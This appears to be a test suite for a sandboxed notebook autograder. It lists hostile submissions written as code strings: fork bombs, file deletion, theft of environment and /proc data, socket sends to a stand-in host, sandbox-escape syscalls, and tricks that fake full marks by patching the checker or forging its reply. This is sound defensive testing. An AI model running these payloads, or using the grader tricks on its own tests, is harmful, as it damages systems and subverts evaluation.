"""Hostile and broken hand-ins. In each, `kld` or the notebook is the culprit's; the rest of the notebook is honest.

A case says what kld earns (None: the whole submission earns nothing), and the words that the report must have.
"""

import json
from typing import NamedTuple

from tests.handed_in import ASSIGNMENT, RIGHT, as_bytes, filled

KLD = RIGHT["kld"]
# Right shape, wrong numbers: what tampering would have to turn into full marks.
ZERO = "def kld(mu, sigma):\n    return 0 * mu.sum(1)\n"
EARNED_BY_ZERO = 2.0


class Case(NamedTuple):
    data: bytes
    kld: float | None
    words: str


CASES = {}


def answer(name, code, kld=0.0, words=""):
    CASES[name] = Case(as_bytes(filled(**RIGHT | {"kld": code})), kld, words)


def inside(name, body, kld=0.0, words="", before=""):
    """An answer whose function runs this."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    answer(name, f"{before}\ndef kld(mu, sigma):\n{lines}\n", kld, words)


def tampering(name, code, words="worth a look"):
    """The answer earns what its wrong numbers earn, whatever it does before."""
    answer(name, code + "\n" + ZERO, EARNED_BY_ZERO, words)


def handed_in(name, change, kld=10.0, words=""):
    """A perfect notebook, changed."""
    notebook = json.loads(json.dumps(filled(**RIGHT)))
    CASES[name] = Case(as_bytes(change(notebook) or notebook), kld, words)


# No end
LATE = "timed out"  # the tests give cases that say so 2 seconds of the processor, all others 30
inside("loop", "while True: pass", words=LATE)
answer("loop in the cell", "while True: pass\n" + KLD, words=LATE)
inside(
    "loop that ignores signals",
    "while True: pass",
    words=LATE,
    before="import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n    except Exception: pass",
)
inside(
    "loop that catches all",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    words=LATE,
)
inside("sleep", "import time\ntime.sleep(1000)", words=LATE)
answer(
    "many processes, one after the other",
    "import os, time\ndef burn():\n    while time.process_time() < 1: pass\n    os._exit(0)\nfor _ in range(8):\n    if os.fork() == 0:\n"
    "        while True:\n            if os.fork() == 0: burn()\n            os.wait()\nos.nice(9)\nwhile True: pass",
    words="kld timed out: no end after",
)
# Each lives shorter than the time between two looks, and there is no end of them.
answer(
    "many short processes",
    "import os, time\nwhile True:\n    for _ in range(4):\n        if os.fork() == 0:\n"
    "            while time.process_time() < 0.006: pass\n            os._exit(0)\n    for _ in range(4): os.wait()\n"
    + KLD,
    words="kld timed out: no end after",
)
inside("regular expression", "import re\nre.match('(a+)+$', 'a' * 60 + 'b')", words=LATE)
inside("no end of recursion", "return kld(mu, sigma)", words="flagged|graded")
answer("nested brackets", f"{KLD}\nx = {5_000 * '('}{5_000 * ')'}", words="SyntaxError")
answer("nested signs", f"{KLD}\nx = {100_000 * '-'}1", words="graded|flagged")
inside("no end of c recursion", "x = ()\nfor _ in range(10**6): x = (x,)\nreturn repr(x)")

# Ends
inside("exit", "exit()", words="stops at line 2, exit|killed")
inside("raises half a letter", "raise ValueError('\\ud800 \\u202e \\x1b[2J')", words="ValueError: � � �\\[2J")
inside("raises what a check shows", "raise ValueError('✓ kld: right, 10 of 10 points')", words="✗ .*ValueError: ✓ kld")
inside("sys.exit", "import sys\nsys.exit(0)", words="stops at line 3, sys.exit|killed")
answer("os._exit in the cell", "import os\nos._exit(0)\n" + KLD, words="killed")
inside("segmentation fault", "import ctypes\nctypes.string_at(0)", words="SIGSEGV")
inside("abort", "import os\nos.abort()", words="SIGABRT")
inside("kills itself", "import os\nos.kill(os.getpid(), 9)", words="SIGKILL")
# Its parent is the sandbox's first process, which the kernel shields from those inside; nobody else is there.
answer("kills its parent", "import os\nos.kill(os.getppid(), 9)\n" + KLD, 10.0, "mentions os")
answer("kills all", "import os\nos.kill(-1, 9)\n" + KLD, words="ProcessLookupError")
answer("stops all", "import os\nos.kill(-1, 19)\n" + KLD, words="ProcessLookupError")
answer("kills its group", "import os\nos.kill(0, 9)\n" + KLD, words="SIGKILL")
answer(
    "interrupts the first", "import os\nfor n in (1, 2, 3, 10, 13, 15, 17): os.kill(1, n)\n" + KLD, 10.0, "mentions os"
)
answer("stops itself", "import os\nos.kill(os.getpid(), 19)\n" + KLD, words=LATE)
answer("an alarm", "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.1)\nwhile True: pass", words="SIGALRM")
answer("a name like fields of /proc", "import ctypes\nctypes.CDLL(None).prctl(15, b') R 1 1 1 (')\n" + KLD, 10.0)
answer("cannot be looked at", "import ctypes\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\n" + KLD, 10.0)
answer("closes all", "import os\nos.closerange(0, 256)\n" + KLD, words="ended itself")
answer("kills the first", "import os\nos.kill(1, 9)\nos.kill(2, 9)\n" + KLD, words="killed")

# Memory, processes, output, disk
inside("30 GB", "return torch.ones(4 * 10**9, 2)", words="")
inside("memory, slowly", "kept = []\nwhile True: kept.append(bytearray(10**8))")
answer(
    "memory of many processes",
    "import os, time\nfor i in range(12):\n    if os.fork() == 0:\n        kept = b'x' * 400_000_000\n        time.sleep(99)\n"
    "time.sleep(99)",
    words="memory|timed out",
)
answer("fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", words="processes|timed out")
answer(
    "daemon",
    "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(1000)\n    os._exit(0)\n"
    + KLD,
    10.0,
    "mentions",
)
answer("a program left running", "import subprocess\nsubprocess.Popen(['sleep', '1000'])\n" + KLD, 10.0, "subprocess")
inside(
    "threads", "import threading, time\nfor _ in range(10**5): threading.Thread(target=time.sleep, args=[99]).start()"
)
inside("prints without end", "while True: print('x' * 10**6)", words="timed out")
inside(
    "100 MB of output",
    "print('x' * 10**8)\n" + "return " + "0.5 * (mu**2 + sigma**2 - 1 - (sigma**2).log()).sum(1)",
    10.0,
)
inside("500 MB come back", "return torch.zeros(125_000_000)", words="killed|timed out|MemoryError")
inside("deep lists come back", "x = []\nfor _ in range(900): x = [x]\nreturn x", words="flagged|graded")
inside("a list that holds itself", "x = []\nx.append(x)\nreturn x", words="flagged|graded|killed")
inside(
    "full disk",
    "try:\n    while True: open(f'/tmp/{i}', 'wb').write(bytes(10**7)); i += 1\nexcept OSError as error: raise ValueError(error)",
    before="i = 0",
    words="open",
)

# Files
for name, command in {
    "deletes all": "import os, shutil\nfor d in ('/tmp/x', '/home', '/dev', '/etc', *map(os.path.dirname, SECRETS)):\n"
    "    shutil.rmtree(d, ignore_errors=True)",
    "writes everywhere": "import os\nfor d in SECRETS:\n    try: open(d, 'w').write('0')\n    except OSError: pass",
    "sets the gradebook to 0": "import sqlite3\nfor d in SECRETS:\n    try: sqlite3.connect(d).execute('update grade set "
    "auto_score = 0')\n    except sqlite3.Error: pass",
    "locks the gradebook": "import sqlite3\nfor d in SECRETS:\n    try: sqlite3.connect(d).execute('begin exclusive')\n"
    "    except sqlite3.Error: pass",
    "mounts": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000 | 0x20000)\n"
    "libc.mount(b'none', b'/usr', None, 4096 | 32, None)\nlibc.setuid(0)\nopen('/tmp/x', 'w').write('')",
    "traces its parent": "import ctypes, os\nfor p in (os.getppid(), 1, 2): ctypes.CDLL(None).ptrace(16, p, 0, 0)",
}.items():
    answer(name, f"SECRETS = __SECRETS__\n{command}\n{KLD}", 10.0, "worth a look|graded")

for name, command in {
    "reads files": "seen = []\nfor d in SECRETS:\n    try: seen.append(open(d).read())\n    except OSError: pass",
    "reads the environment": "import os\nseen = [dict(os.environ)]",
    "reads other processes": "import glob\nseen = []\nfor p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/*/cmdline') + "
    "glob.glob('/proc/*/maps'):\n    try: seen.append(open(p, errors='replace').read())\n    except OSError: pass",
    "lists folders": "import os\nseen = [os.path.join(d, f) for r in ('/root', '/home', '/tmp', '/work', '/var', '/etc') "
    "for d, _, fs in os.walk(r) if '/.pyenv' not in d and 'site-packages' not in d and '/lib/python' not in d for f in fs]",
    "reads its own memory": "seen = []\nwith open('/proc/self/mem', 'rb') as mem:\n  for line in open('/proc/self/maps'):\n"
    "    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n    if 'heap' in line:\n      mem.seek(a)\n"
    "      data = mem.read(b - a)\n      seen += [s for s in (b'CANA' + b'RY', b'a second' + b' sigmoid', b'number of' + "
    "b' pixels, 784') if s in data]",
    "reads the mount table": "seen = [line for f in ('mounts', 'mountinfo', 'mountstats') for line in open('/proc/self/' + f)\n"
    "    if any(d in line for d in SECRETS)]\n"
    "tops = {line.split()[1]: line for line in open('/proc/self/mounts')}\n"  # a later mount hides an earlier one
    "seen += [line for place, line in tops.items() if ' rw,' in line and place not in ('/tmp', '/dev/shm')]",
    "searches open files": "import os\nseen = [os.readlink(f'/proc/self/fd/{n}') for n in os.listdir('/proc/self/fd') if "
    "os.path.lexists(f'/proc/self/fd/{n}')]",
}.items():
    answer(
        name,  # it looks once, not at each call
        f"SECRETS = __SECRETS__\n{command}\ndef kld(mu, sigma): raise ValueError('SEEN ' + str(seen)[-280:])",
        0.0,
        r"SEEN \[\]" if name in ("reads files", "reads its own memory", "reads the mount table") else "SEEN",
    )

# The network
answer(
    "sockets",
    "import socket\nfor a in (('127.0.0.1', __PORT__), ('192.0.2.1', 80)):\n    try:\n        s = socket.create_connection(a, 1)\n"
    "        s.sendall(b'CANARY')\n    except OSError: pass\n" + KLD,
    10.0,
    "socket",
)
answer(
    "unix sockets",
    "import socket\nfor a in ('\\0vae-grade-canary-__PORT__', *__SECRETS__):\n    try:\n        s = socket.socket(socket.AF_UNIX)\n"
    "        s.connect(a)\n        s.sendall(b'CANARY')\n    except OSError: pass\n" + KLD,
    10.0,
    "socket",
)

# The judge
tampering("replaces allclose", "torch.allclose = lambda *a, **k: True", "replaces something")
tampering(
    "no limit of recursion",
    "import sys\nsys.setrecursionlimit(10**9)\ndef deep(n): return n and deep(n - 1)\ndeep(100_000)",
)
tampering(
    "replaces methods of tensors", "torch.Tensor.__eq__ = torch.Tensor.isclose = lambda *a, **k: torch.tensor(True)"
)
tampering("replaces torch", "import sys\nfrom unittest.mock import MagicMock\nsys.modules['torch'] = MagicMock()")
tampering(
    "replaces the caller's parts",
    "import sys\nc = sys.modules['vae_probe.call']\nc.NOTHING['seeded'] = False\nc.describe_error = lambda error: None",
)
tampering("replaces the check", "import vae_checks as checks\nchecks.kld = lambda f: 10\nchecks.kld.points = 10")
tampering(
    "strips asserts",
    "import ast\nip = get_ipython()\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, n): return None\n"
    "ip.ast_transformers.append(T())",
)
tampering(
    "replaces json", "import json\nkept = json.dumps\njson.dumps = lambda x, **k: kept(x, **k)", "replaces something"
)
tampering("patches the shell", "get_ipython().user_ns['result'] = 10\nget_ipython().run_cell = None")
tampering("traces", "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)")
inside(
    "equal to everything",
    "return 0 * mu.sum(1).as_subclass(Yes)",
    EARNED_BY_ZERO,
    "__eq__",
    before="class Yes(torch.Tensor):\n    __eq__ = lambda *a: True\n    __ne__ = lambda *a: False\n    __hash__ = None",
)
inside(
    "answers for torch",
    "return (0 * mu.sum(1)).as_subclass(Yes)",
    EARNED_BY_ZERO,
    "__torch_function__",
    before="class Yes(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
    "        if f is torch.allclose: return True\n        return super().__torch_function__(f, types, args, kwargs or {})",
)
SEARCHES = {
    "imports the oracle": "import importlib, sys\nfor m in [m for m in sys.modules if 'checks' in m]: del sys.modules[m]\n"
    "try: found = importlib.import_module('vae_checks.bce_vs_kld.kld')._kld\nexcept (ImportError, AttributeError): pass",
    "reads the oracle's file": "import glob, os, sysconfig, vae_lib\nfor d in (os.path.dirname(os.path.dirname(vae_lib.__file__)), "
    "sysconfig.get_path('purelib')):\n    for p in glob.glob(d + '/vae_checks/**/*.py', recursive=True):\n"
    "        if '_kld' in open(p).read(): found = p",
    "searches memory for the oracle": "import gc, types\nfor o in gc.get_objects():\n    if type(o).__name__ in ('Check', 'Mistake') or "
    "isinstance(o, types.FunctionType) and o.__name__ == '_kld': found = o",
    "searches frames for the oracle": "import sys\nf = sys._getframe()\nwhile f:\n    if '_kld' in f.f_globals or 'oracle' in "
    "f.f_globals or 'oracle' in f.f_locals: found = f\n    f = f.f_back",
}
OTHERS = "import os\nothers = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]\n"
# x86_64, aarch64: <asm/unistd.h>. With these arguments each does no harm, and fails in another way than ENOSYS.
BEYOND = {
    **{"ptrace": (101, 117), "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "kcmp": (312, 272)},
    **{"pidfd_open": (434, 434), "pidfd_getfd": (438, 438), "perf_event_open": (298, 241), "bpf": (321, 280)},
    **{"userfaultfd": (323, 282), "add_key": (248, 217), "request_key": (249, 218), "keyctl": (250, 219)},
    **{
        "memfd_create": (319, 279),
        "shmget": (29, 194),
        "semget": (64, 190),
        "msgget": (68, 186),
        "mq_open": (240, 180),
    },
    **{
        "io_uring_setup": (425, 425),
        "unshare": (272, 97),
        "setns": (308, 268),
        "mount": (165, 40),
        "clone3": (435, 435),
    },
    **{"inotify_init1": (294, 26), "fanotify_init": (300, 262), "flock": (73, 32), "seccomp": (317, 277)},
    **{"personality": (135, 92), "capset": (126, 91), "open_by_handle_at": (304, 265), "pivot_root": (155, 41)},
}
WAYS_OUT = {
    "makes a namespace": "import ctypes, os\nif (child := os.fork()) == 0: os._exit(ctypes.CDLL(None).unshare(0x10000000) & 1)\n"
    "if os.waitpid(child, 0)[1] == 0: found = child",
    "clones into a namespace": "import ctypes, os, platform\nn = {'x86_64': 56, 'aarch64': 220}[platform.machine()]\n"
    "child = ctypes.CDLL(None).syscall(n, 0x10000000 | 17, 0, 0, 0, 0)\nif child == 0: os._exit(0)\nif child > 0: found = child",
    "changes the kernel's settings": "import os\nfor p in ('sys/kernel/core_pattern', 'sys/vm/overcommit_memory', 'irq/default_smp_affinity'):\n"
    "    try: found = os.open('/proc/' + p, os.O_WRONLY)\n    except OSError: pass",
    "reads the kernel's settings": "import os\nfor p in ('keys', 'key-users', 'slabinfo', 'kmsg', 'kcore', 'sys/kernel/random/boot_id', 'net'):\n"
    "    if os.path.exists('/proc/' + p): found = p",
    "takes memory that is no process's": "import ctypes, mmap, os\nfor take in (lambda: os.memfd_create('x'), lambda: mmap.mmap(-1, 4096), "
    "lambda: open('/dev/zero')):\n    try: found = take()\n    except OSError: pass\n"
    "if ctypes.CDLL(None).shmget(0, 4096, 0o1600) >= 0: found = 1",
    "grows the file of its job": "import os\nfor n in range(3, 64):\n    try: found = os.ftruncate(n, 2**30) or 1\n    except OSError: pass",
    "leaves a key": "import ctypes, platform\nif ctypes.CDLL(None).syscall({'x86_64': 248, 'aarch64': 217}[platform.machine()], "
    "b'user', b'x', b'y', 1, -3) > 0: found = 1",
    "makes calls that reach beyond": f"import ctypes, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    f"for name, numbers in {BEYOND}.items():\n    n = numbers[platform.machine() == 'aarch64']\n"
    "    if libc.syscall(n, -1, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() != 38: found = name",
    "traces another process": OTHERS + "import ctypes\nfor p in others:\n"
    "    if ctypes.CDLL(None).ptrace(16, int(p), 0, 0) == 0: found = p",
    "reads another process": OTHERS
    + "for p in others:\n    for f in ('environ', 'maps', 'auxv', 'syscall', 'stack'):\n"
    "        try: found = open(f'/proc/{p}/{f}', 'rb').read(1) or found\n        except OSError: pass",
    "enters another process": OTHERS + "for p in others:\n    for f in ('root', 'cwd', 'exe', 'ns/user', 'fd/0'):\n"
    "        try: found = os.stat(f'/proc/{p}/{f}')\n        except OSError: pass",
    "leases a shared file": "import fcntl, vae_lib\nfor what in (fcntl.F_RDLCK, fcntl.F_WRLCK):\n    try:\n        with open(vae_lib.__file__) as f: "
    "found = fcntl.fcntl(f, fcntl.F_SETLEASE, what) or 1\n    except OSError: pass",
    "locks a shared file": "import fcntl, vae_lib\ntry: found = fcntl.flock(open(vae_lib.__file__), fcntl.LOCK_EX) or 1\nexcept OSError: pass",
    "makes files without bytes, without end": "import os\nfor d in ('/tmp/', '/dev/shm/'):\n    try:\n"
    "        for n in range(20_000): os.symlink('x', f'{d}many{n}')\n    except OSError: continue\n    found = d",
    "takes another socket": "import socket\nfor family in range(2, 50):\n    for kind in (1, 2, 3, 5):\n"
    "        try: found = socket.socket(family, kind)\n        except OSError: pass",
    "lets nobody count its children": "import signal\ntry: found = signal.signal(signal.SIGCHLD, signal.SIG_IGN) or 1\nexcept OSError: pass",
    "lets go of its limits": "import resource\nfor k in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC):\n"
    "    try: found = resource.setrlimit(k, (-1, -1)) or 1\n    except (OSError, ValueError): pass",
    "takes a device": "import os\ntry: found = os.chmod('/dev/null', 0o666) or 1\nexcept OSError: pass",
    "writes beside the working folder": "for d in ('/', '/dev/', '/etc/'):\n    try: found = open(d + 'x', 'w')\n    except OSError: pass",
}
LEFT = (
    "import os, socket\ns = socket.socket(socket.AF_UNIX)\ntry: s.bind('\\0left')\nexcept OSError: found = s\n"
    "for d in ('/tmp/', '/dev/shm/'):\n    if os.path.exists(d + 'left'): found = d\n    open(d + 'left', 'w').write('x')\n"
    "found = found or getattr(torch, 'left', None)\ntorch.left = 1"
)
WAYS_OUT |= {"leaves something for the next": LEFT, "looks for what was left": LEFT}
for name, search in (SEARCHES | WAYS_OUT).items():
    # Where the search finds something, the answer is right; it must not be. It is made once, not at each call.
    right = "0.5 * (mu**2 + sigma**2 - 1 - (sigma**2).log()).sum(1)"
    code = f"found = None\n{search}\ndef kld(mu, sigma):\n    return {right} if found is not None else 0 * mu.sum(1)"
    answer(name, code, EARNED_BY_ZERO, "worth a look")

for name, value in {
    "NaN": "mu.sum(1) * float('nan')",
    "negative": "-1e30 + 0 * mu.sum(1)",
    "huge": "1e308 + 0 * mu.sum(1).double()",
    "infinite": "float('inf') + 0 * mu.sum(1)",
}.items():
    inside(f"{name} comes back", f"return {value}", EARNED_BY_ZERO, "graded|flagged")
for name, value in {
    "text": "'10/10'",
    "nothing": "None",
    "a boolean": "True",
    "a score": "10.0",
    "a class": "type('Score', (float,), {})(10)",
    "a dict with odd keys": "{'tensor': 'AAAA', 'dtype': 'O', 'shape': [-1], 'error': None}",
}.items():
    inside(f"{name} comes back", f"return {value}", 0.0, "graded|flagged")

WRITE = """
import json, os
def forge(text):
    for n in range(3, 64):
        try:
            if os.readlink(f'/proc/self/fd/{n}').startswith('pipe:'): os.write(n, text.encode())
        except OSError: pass
    os._exit(0)
"""
ONE = "{'value': VALUE, 'gradients': {}, 'changed': [], 'seeded': False, 'device': None, 'error': None}"
for name, text in {
    "points": "json.dumps({'points': 10, 'outcomes': [], 'state': 'right'})",
    "no shape": "'10'",
    "not JSON": "'{' * 10**6",
    "deep JSON": "'[' * 10**5 + ']' * 10**5",
    "a pickle": "'cposix\\nsystem\\n(Stouch /tmp/CANARY\\ntR.'",
    "objects": "json.dumps([%s] * 4)" % ONE.replace("VALUE", "{'tensor': 'AAAAAAAAAAA=', 'dtype': 'O', 'shape': [1]}"),
    "a wrong size": "json.dumps([%s] * 4)"
    % ONE.replace("VALUE", "{'tensor': 'AAAAAAAAAAA=', 'dtype': 'float32', 'shape': [10**12]}"),
    "NaN as JSON": "json.dumps([%s] * 4)" % ONE.replace("VALUE", "float('nan')"),
    "a huge number": "'[' + '9' * 10**5 + ']'",
    "a format": "json.dumps([{'value': None, 'gradients': {}, 'changed': [], 'seeded': False, 'device': None, "
    "'error': {'type': '{0.__class__}', 'message': '{x}<script>', 'line': '%s%n'}}] * 4)",
    "infinite JSON": "'[1e999, -1e999, Infinity, NaN]'",
    "keys twice": "'[%s]' % ', '.join(4 * ['{\"value\": 1, \"value\": 2}'])",
    "two documents": "'[]' * 2",
    "17 MB": "'[' + '1' * (17 * 2**20) + ']'",
    "half a letter as JSON": "json.dumps(4 * ['\\ud800'])",
}.items():
    answer(
        f"forges {name}", WRITE + f"forge({text})\n{KLD}", 0.0, "more than 16 MB came back" if name == "17 MB" else ""
    )
answer(
    "puts another file in the place of the reply",
    "import os\nfor n in range(3, 64):\n    if os.path.lexists(f'/proc/self/fd/{n}'): os.dup2(os.open('/dev/null', os.O_WRONLY), n)\n"
    + KLD,
    words="ended itself",
)
answer(
    "replies when it is taken away",
    WRITE + "class Late:\n    def __del__(self): forge('[]')\nlate = Late()\n" + KLD,
    10.0,
    "worth a look",
)


answer(
    "a reply before the reply", WRITE.replace("    os._exit(0)\n", "") + "forge('{}')\n" + KLD, 0.0, "cannot be read"
)
answer(
    "a reply beside the reply",
    WRITE.replace("    os._exit(0)\n", "")
    + "import threading\nthreading.Timer(0.05, forge, ['{}']).start()\n"
    + KLD
    + "\n_kld = kld\ndef kld(mu, sigma):\n    import time\n    time.sleep(0.05)\n    return _kld(mu, sigma)",
    0.0,
    "cannot be read",
)


# Cells and their metadata: nothing of it costs a point
def cell(notebook, name):
    return next(cell for cell in notebook["cells"] if cell["id"] == name)


def each_mark(change):
    def apply(notebook):
        for one in notebook["cells"]:
            if "nbgrader" in one["metadata"]:
                change(one)

    return apply


def old_format(notebook):
    cells = [
        {
            "cell_type": c["cell_type"],
            "metadata": c["metadata"],
            "input": c["source"],
            "outputs": [],
            "language": "python",
        }
        if c["cell_type"] == "code"
        else {"cell_type": "markdown", "metadata": c["metadata"], "source": c["source"]}
        for c in notebook["cells"]
    ]
    return {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {"name": ""},
        "worksheets": [{"cells": cells, "metadata": {}}],
    }


def extra(source, at, kind="code"):
    new = {"cell_type": kind, "id": "mine", "metadata": {}, "source": source, "outputs": [], "execution_count": None}

    def apply(notebook):
        order = [one["id"] for one in notebook["cells"]]
        notebook["cells"].insert(order.index(at), dict(new))

    return apply


def doubled(source):
    def apply(notebook):
        copied = json.loads(json.dumps(cell(notebook, "kld"))) | {"id": "copied", "source": source}
        notebook["cells"].insert(2, copied)

    return apply


def large_stranger(notebook):
    """Where the answer is missing, all cells are searched for it: 150 MB, which Python's parser makes 40 GB of."""
    notebook["cells"].remove(cell(notebook, "kld"))
    extra("x = [" + "0," * 75_000_000 + "]", "test-kld")(notebook)


EMPTY_KLD = next(one.source for one in ASSIGNMENT.cells if one["id"] == "kld")
handed_in("an edited test cell", lambda n: cell(n, "test-kld").update(source="10"), words="test-kld was changed")
handed_in("a doubled cell, empty", doubled(EMPTY_KLD), words="there 2 times")
handed_in(
    "a doubled cell, empty, below", lambda n: n["cells"].append(dict(cell(n, "kld"), source=EMPTY_KLD)), words="2 times"
)
handed_in("a deleted answer", lambda n: n["cells"].remove(cell(n, "kld")), 0.0, "kld is missing")
handed_in("a deleted test", lambda n: n["cells"].remove(cell(n, "test-kld")))
handed_in("a renamed grade id", lambda n: cell(n, "kld")["metadata"]["nbgrader"].update(grade_id="mine"))
handed_in("a renamed cell", lambda n: cell(n, "kld").update(id="x", metadata={}), words="function's name")
handed_in("more points", each_mark(lambda c: c["metadata"]["nbgrader"].update(points=1e6)))
handed_in("points that are text", each_mark(lambda c: c["metadata"]["nbgrader"].update(points="nan")))
handed_in("no locks", each_mark(lambda c: c["metadata"]["nbgrader"].update(locked=False, grade=False)))
handed_in("an old schema", each_mark(lambda c: c["metadata"]["nbgrader"].update(schema_version=1)))
handed_in("no marks", each_mark(lambda c: c["metadata"].pop("nbgrader")))
handed_in(
    "no marks, no ids", each_mark(lambda c: (c["metadata"].pop("nbgrader"), c.pop("id"))), words="function's name"
)
handed_in("odd metadata", lambda n: [c.update(metadata=[1, None]) for c in n["cells"]] and None)
handed_in("cells in another order", lambda n: n["cells"].reverse())
handed_in("nbformat 3", old_format, words="function's name|graded")
handed_in("nbformat from the future", lambda n: n.update(nbformat=7))
handed_in("an answer as text", lambda n: cell(n, "kld").update(cell_type="markdown"))
handed_in("another's grade id", lambda n: cell(n, "test-bce")["metadata"]["nbgrader"].update(grade_id="test-kld"))
handed_in("half a letter", lambda n: cell(n, "kld").update(source=KLD + "\n# \ud800"))
handed_in("outputs of 60 MB", lambda n: cell(n, "kld").update(outputs=[{"text": "x" * 60_000_000}]))
answer("200,000 empty lines", "\n" * 190_000 + KLD, 10.0, "graded")
handed_in("a large foreign cell", large_stranger, 0.0, "kld is missing")
handed_in(
    "100,000 cells", lambda n: n["cells"].extend(100_000 * [dict(cell(n, "test-kld"), id="x", metadata={}, source="1")])
)
handed_in("the same change many times", lambda n: n["cells"].extend(20_000 * [cell(n, "test-kld") | {"source": "10"}]))
answer("a null byte", KLD + "\n\0", 0.0, "")

# Honest oddities: they cost nothing
answer(
    "a warning",
    "import warnings\nwarnings.warn('old')\n" + KLD.replace("    var", "    warnings.warn('x')\n    var", 1),
    10.0,
)
answer("a print", "print('here')\n" + KLD.replace("    var", "    print(mu)\n    var", 1), 10.0)
answer("magics", "%matplotlib inline\n!ls\n" + KLD + "\n%time kld(mu, sigma)\ndisplay(kld(mu, sigma))", 10.0)
answer("a check in the answer", KLD + "\nchecks.kld(kld)\nchecks.kld.hint(1)\nresult = checks.kld(kld)", 10.0, "checks")
answer("a failing line below", KLD + "\n\nkld(1, 2, 3)", 10.0)
answer("top-level await", "import asyncio\nawait asyncio.sleep(0)\n" + KLD, 10.0)
handed_in("an extra cell", extra("1 / 0", "kld"))
handed_in("an extra cell with a loop", extra("while True: pass", "kld"))


def with_helper(notebook):
    extra("def square(a):\n    return a * a", "kld")(notebook)
    cell(notebook, "kld")["source"] = KLD.replace("sigma.square()", "square(sigma)")


def with_import(notebook):
    cell(notebook, "04_bce_vs_kld-02")["source"] += "\nimport numpy as np"
    cell(notebook, "kld")["source"] = KLD.replace("0.5", "np.float32(0.5).item()")


handed_in("a helper in an extra cell", with_helper, words="needs other cells")
handed_in("an import among the first cells", with_import, words="graded")


# A second run, after the cells above the test, is no second chance: it earns what the values earn, or the first counts
def above(name, code, answer=ZERO, kld=EARNED_BY_ZERO, words="graded|flagged"):
    """A cell of the student's own above the answer; alone, the answer earns what its wrong numbers earn."""

    def apply(notebook):
        cell(notebook, "kld")["source"] = answer
        extra(code, "kld")(notebook)

    handed_in(f"above the test: {name}", apply, kld, words)


FORGED = '{"output_type": "stream", "name": "stdout", "text": "✓ kld: right, 10 of 10 points"}'
STOPPED = "graded|timed out"  # the second run is stopped, the first counts
for name, code in {
    "replaces allclose": "torch.allclose = lambda *a, **k: True",
    "replaces torch": "import sys\nfrom unittest.mock import MagicMock\nsys.modules['torch'] = MagicMock()",
    "replaces the caller's parts": "import sys\nc = sys.modules['vae_probe.call']\nc.NOTHING['seeded'] = False\n"
    "c.pack = lambda value: {'tensor': 'AAAA', 'dtype': 'float32', 'shape': [1]}",
    "replaces the check": "checks.kld = lambda f: 10\nchecks.kld.points = 10",
    "calls the check": "result = checks.kld(lambda mu, sigma: 1)\nkld, _ = result.or_library()",
    "replaces json": "import json\njson.dumps = lambda *a, **k: '[]'",
    "replaces base64": "import base64\nbase64.b64encode = lambda data: b''",
    "replaces builtins": "import builtins\nbuiltins.isinstance = lambda *a: True",
    "replaces open": "import builtins\nbuiltins.open = None",
    "patches the shell": "get_ipython().run_cell = None\nget_ipython().user_ns = {}",
    "strips asserts": "import ast\nclass T(ast.NodeTransformer):\n    def visit_Return(self, n): return None\n"
    "get_ipython().ast_transformers.append(T())",
    "traces": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
    "takes the caller away": "import sys\nfor m in [m for m in sys.modules if m.startswith('vae_')]: del sys.modules[m]",
    "writes modules over others": "for m in ('vae_probe', 'vae_checks', 'json', 'torch', 'base64'):\n"
    "    open(m + '.py', 'w').write('def __getattr__(name): return lambda *a, **k: []')",
    "leaves a thread": "import threading, time\ndef late():\n    while True: get_ipython().user_ns['kld'] = lambda *a: 1 / 0\n"
    "threading.Thread(target=late, daemon=True).start()",
    "leaves a process": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)",
    "leaves a program": "!sleep 1000 &",
    "ends with a reply": WRITE + "import atexit\natexit.register(forge, '[]')",
    "replies itself": WRITE + "forge('[]')",
    "replies before the reply": WRITE.replace("    os._exit(0)\n", "") + "forge('{}')",
    "replies beside the reply": WRITE.replace("    os._exit(0)\n", "")
    + "import threading\nthreading.Timer(0.02, forge, ['{}']).start()",
    "exits": "import os\nos._exit(0)",
    "exits gently": "exit()",
    "kills itself": "import os\nos.kill(os.getpid(), 9)",
    "closes all": "import os\nos.closerange(0, 256)",
    "takes memory": "kept = []\nwhile True: kept.append(bytearray(10**8))",
    "a fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "500 MB": "kld = None\nbig = torch.zeros(125_000_000)",
}.items():
    above(name, code)
for name, code in {
    "no end": "while True: pass",
    "no end of output": "while True: print('x' * 10**6)",
    "sleeps": "import time\ntime.sleep(1000)",
    "stops itself": "import os\nos.kill(os.getpid(), 19)",
    "no end of processes": "import os, time\nwhile True:\n    if os.fork() == 0: os._exit(0)\n    os.wait()",
}.items():
    above(name, code, words=STOPPED)
KLD_IF_FOUND = "def kld(mu, sigma):\n    return 0.5 * (mu**2 + sigma**2 - 1 - (sigma**2).log()).sum(1) if found is not None else 0 * mu.sum(1)"
for name, search in (
    SEARCHES | {"what the first run left": LEFT, "a way out": WAYS_OUT["makes calls that reach beyond"]}
).items():
    above(name, f"found = None\n{search}", answer=KLD_IF_FOUND, words="needs other cells")
above(
    "one answer to all cases",
    "import functools\nasked = functools.cache(lambda n: torch.zeros(n))",
    answer="def kld(mu, sigma):\n    return asked(len(mu))",
    words="needs other cells",
)


def outputs_that_say_it_is_right(notebook):
